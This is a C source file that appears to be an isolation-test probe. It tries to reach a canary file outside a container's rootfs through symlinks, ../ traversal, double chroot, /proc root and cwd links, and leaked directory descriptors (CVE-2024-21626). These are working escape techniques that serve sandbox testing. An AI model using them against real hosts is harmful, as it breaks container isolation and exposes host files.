/* Reach the canary file outside the rootfs by path tricks:
 *   symlink      absolute and ../-laden symlinks to the canary's host path
 *   dotdot       ../ past the root, and the classic double-chroot escape
 *   proc_root    /proc/self/root, /proc/self/cwd
 *   proc_1_root  /proc/1/root, /proc/1/cwd
 *   proc_host_pid /proc/<host canary pid>/root and cwd
 *   leaked_fd    an inherited directory fd or cwd outside the rootfs (CVE-2024-21626) */
#include "attack.h"
#include <dirent.h>

static char up[4096];

static const char *ups(int levels, const char *rest)
{
    up[0] = 0;
    for (int i = 0; i < levels; i++)
        strcat(up, "../");
    strcat(up, rest[0] == '/' ? rest + 1 : rest);
    return up;
}

static void symlink_attack(void)
{
    const char *target = canary_path();
    mkdir("/tmp", 01777);
    unlink("/tmp/psb-link-abs");
    if (symlink(target, "/tmp/psb-link-abs") < 0)
        blocked("symlink: %s", strerror(errno));
    try_canary("/tmp/psb-link-abs", "absolute symlink");
    unlink("/tmp/psb-link-rel");
    if (symlink(ups(32, target), "/tmp/psb-link-rel") < 0)
        blocked("symlink: %s", strerror(errno));
    try_canary("/tmp/psb-link-rel", "relative ../ symlink");
}

static void dotdot_attack(void)
{
    const char *target = canary_path();
    chdir("/");
    try_canary(ups(32, target), "../ from /");
    /* Double chroot: chroot into a subdirectory while keeping the cwd outside it. */
    mkdir("/tmp", 01777);
    mkdir("/tmp/psb-jail", 0755);
    if (chroot("/tmp/psb-jail") < 0) {
        blocked("chroot: %s", strerror(errno));
        return;
    }
    for (int i = 0; i < 64; i++)
        chdir("..");
    try_canary(target + 1, "double chroot, cwd walked up");
    if (chroot(".") == 0)
        try_canary(target, "double chroot, chroot(.)");
}

static void proc_root_attack(void)
{
    char path[4096];
    const char *target = canary_path();
    snprintf(path, sizeof(path), "/proc/self/root%s", target);
    try_canary(path, "/proc/self/root");
    snprintf(path, sizeof(path), "/proc/self/root/%s", ups(32, target));
    try_canary(path, "/proc/self/root/../");
    snprintf(path, sizeof(path), "/proc/self/cwd/%s", ups(32, target));
    try_canary(path, "/proc/self/cwd/../");
}

static void proc_pid_root_attack(int pid, const char *label)
{
    char path[4096], how[128];
    const char *target = canary_path();
    snprintf(path, sizeof(path), "/proc/%d/root%s", pid, target);
    snprintf(how, sizeof(how), "%s/root", label);
    try_canary(path, how);
    snprintf(path, sizeof(path), "/proc/%d/cwd/%s", pid, ups(32, target));
    snprintf(how, sizeof(how), "%s/cwd/../", label);
    try_canary(path, how);
}

static void leaked_fd_attack(void)
{
    const char *target = canary_path();
    const char *base = strrchr(target, '/') + 1;
    char how[128];
    /* The cwd the runtime left us in. */
    char cwd[4096];
    if (getcwd(cwd, sizeof(cwd)) == NULL)
        say("info", "getcwd: %s", strerror(errno));
    try_canary(ups(32, target), "cwd ../");
    for (int fd = 3; fd < 1024; fd++) {
        struct stat st;
        if (fstat(fd, &st) < 0 || !S_ISDIR(st.st_mode))
            continue;
        snprintf(how, sizeof(how), "inherited directory fd %d", fd);
        try_canary_at(fd, base, how);
        try_canary_at(fd, ups(32, target), how);
        char path[4096];
        snprintf(path, sizeof(path), "/proc/self/fd/%d/%s", fd, ups(32, target));
        try_canary(path, "/proc/self/fd/N/../");
        if (fchdir(fd) == 0)
            try_canary(ups(32, target), "fchdir(leaked fd) ../");
    }
}

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "";
    if (!strcmp(how, "symlink"))
        symlink_attack();
    else if (!strcmp(how, "dotdot"))
        dotdot_attack();
    else if (!strcmp(how, "proc_root"))
        proc_root_attack();
    else if (!strcmp(how, "proc_1_root"))
        proc_pid_root_attack(1, "/proc/1");
    else if (!strcmp(how, "proc_host_pid"))
        proc_pid_root_attack(canary_pid(), "/proc/<host pid>");
    else if (!strcmp(how, "leaked_fd"))
        leaked_fd_attack();
    else {
        fprintf(stderr, "file_escapes: unknown technique %s\n", how);
        return 2;
    }
    return 0;
}
